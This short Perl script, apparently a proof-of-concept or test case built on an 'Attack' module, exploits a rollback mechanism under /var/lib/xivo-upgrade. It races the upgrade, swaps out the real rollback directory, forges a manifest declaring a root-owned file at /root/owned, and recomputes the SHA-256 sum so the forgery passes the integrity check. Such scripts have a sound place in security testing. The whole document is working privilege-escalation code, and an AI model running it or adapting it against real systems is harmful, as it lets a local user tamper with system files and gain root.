# Exchanges the rollback data below a state directory of the account for data of its own, by which a rollback makes a file of root.
use strict;
use warnings;
use Attack;

my $state = '/var/lib/xivo-upgrade';
ready();
wait_for { upgraded() && -e "$state/journal.last" && -d "$state/rollback" };
tried();
rename "$state/rollback", "$state/rollback.old" or exit 0;
directory("$state/rollback/files");
write_file("$state/rollback/files/0", "owned\n");
utime 0, 0, "$state/rollback/files/0";
my $manifest = qq({"version":1,"packages":[],"declared":[],"places":["$state/rollback"]}\n)
    . qq({"path":"/root/owned","type":{"file":{"size":6,"inode":1}},"mode":420,"uid":0,"gid":0,"mtime":[0,0],)
    . qq("stored":{"how":"link","place":0,"object":0}}\n);
write_file('/var/lib/phoned/manifest', $manifest);
my ($sum) = `sha256sum /var/lib/phoned/manifest` =~ /^(\w+)/;
write_file("$state/rollback/manifest", $manifest . qq({"entries":1,"sha256":"$sum"}\n));
write_file("$state/rollback/places", '');
